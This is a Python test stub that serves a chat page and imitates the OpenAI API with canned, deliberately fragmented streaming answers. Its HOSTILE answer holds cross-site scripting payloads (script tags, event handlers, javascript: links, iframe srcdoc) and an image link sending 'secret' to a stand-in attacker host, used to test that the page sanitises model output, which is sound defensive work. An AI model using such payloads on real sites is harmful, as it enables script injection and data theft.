"""A stub of the server for tests of the chat page: it serves the page and speaks the OpenAI protocol, without a model.

There is a page for each kind of model (`/chat/`, `/encoder/`, ...), one that wants an API key (`/locked/`), one
whose model is still loading (`/down/`) and one with two models (`/two/`). The last words of a prompt decide what is
answered (`ANSWERS`). Requests are kept in `Stub.requests`.
"""

import asyncio
import json
import pathlib
import threading
import time

import uvicorn
from starlette.applications import Starlette
from starlette.responses import FileResponse, JSONResponse, StreamingResponse
from starlette.routing import Mount, Route
from starlette.staticfiles import StaticFiles

PAGE = pathlib.Path(__file__).parents[2] / "jaxlm" / "serve" / "page"
# what the server sends with the page and its files
HEADERS = {
    "Content-Security-Policy": "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; "
    "img-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'",
    "X-Content-Type-Options": "nosniff",
    "Referrer-Policy": "no-referrer",
    "Cache-Control": "no-cache",
}
KEY = "sk-right"
MODELS = {
    "chat": ("SmolLM2-135M-Instruct", 8192, 134_515_008),
    "completion": ("gpt2-small", 1024, 124_439_808),
    "encoder_decoder": ("opus-mt-en-zh", 512, 77_943_296),
    "encoder": ("all-MiniLM-L6-v2", 512, 22_713_216),
}
TOO_LONG = {"param": "messages", "code": "context_length_exceeded"}
HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked=1">

<svg/onload=window.hacked=1> [click](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>)
[tab](java\tscript:window.hacked=1) ![x](https://attacker.test/?q=secret) <javascript:window.hacked=1>
[a" onmouseover="window.hacked=1](https://ok.test/"onmouseover="window.hacked=1)

| <b>x</b> | `<script>window.hacked=1</script>` |
|---|---|
| <iframe srcdoc="<script>window.hacked=1</script>"> | </td><script>window.hacked=1</script> |

```"><script>window.hacked=1</script>
</code></pre><script>window.hacked=1</script>
```
"""
RICH = """A **transformer** reads a whole sequence at once; each token *attends* to the others.

## How attention works

1. Each token makes a query, a key and a value.
2. Scores are scaled products of queries and keys.
   - scaled by `1/sqrt(H)`
   - masked for a decoder
3. The values are summed with these weights.

| Kind | Sees | Used for |
|:--|:-:|--:|
| Encoder | both sides | embeddings |
| Decoder | the left side | chat |

```python
def attention(q, k, v):
    scores = einsum("btnh,bsnh->bnts", q, k)
    return einsum("bnts,bsnh->btnh", softmax(scores / sqrt(q.shape[-1])), v)
```

> More in *[Attention Is All You Need](https://arxiv.org/abs/1706.03762)*.
"""


def pieces(text: str) -> list[str]:
    """About a word each, as tokens are."""
    words = text.split(" ")
    return [word + " " for word in words[:-1]] + [words[-1]]


ANSWERS = {
    "hostile": HOSTILE,
    "rich": RICH,
    "attention work?": RICH,
    "注意力是什么？": "**注意力**让每个词元从其他词元中取得信息：\n\n1. 用查询和键计算分数\n2. 用 `softmax` 归一化\n"
    "3. 按权重把值相加\n\n```python\nweights = softmax(q @ k.T / sqrt(d))\n```",
    "chinese": "你好！**中文。**后文",
    "fox jumps": " over the lazy dog.",
    "The cat sleeps.": "猫在睡觉。",
}


class Stub:
    """Answers of the server, and what was asked of it."""

    def __init__(self) -> None:
        self.requests: list[dict] = []
        self.dropped = threading.Event()
        self.busy = 0
        # seconds between two tokens
        self.pace = 0.0

    def app(self) -> Starlette:
        """One page for each kind of model."""
        return Starlette(
            routes=[
                Mount(f"/{kind}", routes=self.routes(kind))
                for kind in (*MODELS, "locked", "down", "two")
            ]
        )

    def routes(self, kind: str) -> list[Route | Mount]:
        """The routes that the page uses."""
        shown = kind if kind in MODELS else "chat"

        def locked(request):
            if kind != "locked" or request.headers.get("authorization") == f"Bearer {KEY}":
                return None
            return error(401, "Incorrect API key provided.")

        async def index(_):
            return FileResponse(PAGE / "index.html", headers=HEADERS)

        async def models(request):
            if kind == "down":
                return error(503, "The model is still loading.")
            kinds = ["chat", "completion"] if kind == "two" else [shown]
            return locked(request) or JSONResponse(
                {"object": "list", "data": [entry(name) for name in kinds]}
            )

        async def complete(request):
            if refused := locked(request):
                return refused
            body = await request.json()
            self.requests.append(body)
            return self.answer(body)

        async def embed(request):
            body = await request.json()
            vectors = [[len(text), text.count("a"), 1.0] for text in body["input"]]
            data = [{"index": i, "embedding": vector} for i, vector in enumerate(vectors)]
            # out of order: clients go by the index
            return JSONResponse({"object": "list", "data": data[::-1]})

        static = StaticFiles(directory=PAGE)

        async def files(scope, receive, send):
            async def with_headers(message):
                if message["type"] == "http.response.start":
                    message["headers"] += [(k.encode(), v.encode()) for k, v in HEADERS.items()]
                await send(message)

            await static(scope, receive, with_headers)

        return [
            Route("/", index),
            Mount("/page", files),
            Route("/v1/models", models),
            Route("/v1/chat/completions", complete, methods=["POST"]),
            Route("/v1/completions", complete, methods=["POST"]),
            Route("/v1/embeddings", embed, methods=["POST"]),
        ]

    def answer(self, body: dict):
        """The answer to a request for text."""
        chat = "messages" in body
        prompt = body["messages"][-1]["content"] if chat else body["prompt"]
        # a message that was refused before is sent with it
        prompt = prompt.split("\n\n")[-1]
        if len(prompt) > 500:
            return error(400, "messages: has 900 tokens; it must have 1 to 800", **TOO_LONG)
        if prompt == "fail":
            return error(400, "max_tokens is 9999, the model's limit is 8192")
        if prompt == "busy" and self.busy:
            self.busy -= 1
            return error(429, "The queue is full.", {"Retry-After": "1"})
        known = next((text for words, text in ANSWERS.items() if prompt.endswith(words)), None)
        text = known if known is not None else f"You said: {prompt}"
        if prompt == "whole":
            choice = {"index": 0, "message": {"content": text}, "finish_reason": "stop"}
            return JSONResponse({"choices": [choice]})
        return StreamingResponse(
            self.stream(chat, prompt, text, body), media_type="text/event-stream"
        )

    async def stream(self, chat: bool, prompt: str, text: str, body: dict):
        """Server-sent events, split where it hurts."""

        def event(content=None, finish=None):
            delta = {"delta": {"content": content}} if chat else {"text": content or ""}
            return data({"choices": [{"index": 0, **delta, "finish_reason": finish}]})

        if prompt == "slow":
            try:
                for i in range(10000):
                    yield event(f"word{i} ")
                    await asyncio.sleep(0.01)
            finally:
                self.dropped.set()
        parts = pieces(text)
        for part in parts:
            chunk = event(part)
            # a network packet may end inside of a character, and inside of a line's end
            middle = len(chunk) // 2
            yield chunk[:middle]
            await asyncio.sleep(0)
            yield chunk[middle:-1]
            yield chunk[-1:]
            await asyncio.sleep(max(self.pace, 0.002 if "rich" in prompt else 0))
        if prompt == "break":
            yield data({"error": {"message": "out of memory", "type": "server_error"}})
            return
        if prompt == "cut":
            return
        yield event(finish="length" if prompt == "long" else "stop")
        if body["stream_options"]["include_usage"]:
            usage = {"prompt_tokens": 7, "completion_tokens": len(parts), "total_tokens": 7}
            yield data({"choices": [], "usage": usage})
        yield b"data: [DONE]\r\n\r\n"


def data(value: dict) -> bytes:
    """One event; the characters are not escaped, and lines end as Windows ends them."""
    return b": comment\r\ndata: " + json.dumps(value, ensure_ascii=False).encode() + b"\r\n\r\n"


def error(status: int, message: str, headers: dict | None = None, **more: str) -> JSONResponse:
    """An error as OpenAI sends it."""
    fields = {"message": message, "type": "invalid_request_error", "code": None, **more}
    return JSONResponse({"error": fields}, status, headers)


def entry(kind: str) -> dict:
    """An entry of the list of models."""
    name, max_len, parameters = MODELS[kind]
    defaults = {"temperature": 0.7, "top_p": None, "top_k": 50, "max_new_tokens": 256}
    extra = {"kind": kind, "max_len": max_len, "parameters": parameters, "defaults": defaults}
    return {"id": name, "object": "model", "created": 0, "owned_by": "jaxlm", "jaxlm": extra}


class Running:
    """The stub on a free port, in a thread: `with Running() as stub: stub.url`."""

    def __enter__(self) -> "Running":
        self.stub = Stub()
        config = uvicorn.Config(self.stub.app(), port=0, log_level="error", ws="none")
        self.server = uvicorn.Server(config)
        self.thread = threading.Thread(target=self.server.run)
        self.thread.start()
        until = time.monotonic() + 30
        while not self.server.started and time.monotonic() < until:
            time.sleep(0.01)
        port = self.server.servers[0].sockets[0].getsockname()[1]
        self.url = f"http://127.0.0.1:{port}"
        return self

    def __exit__(self, *_) -> None:
        self.server.should_exit = True
        self.thread.join(timeout=10)
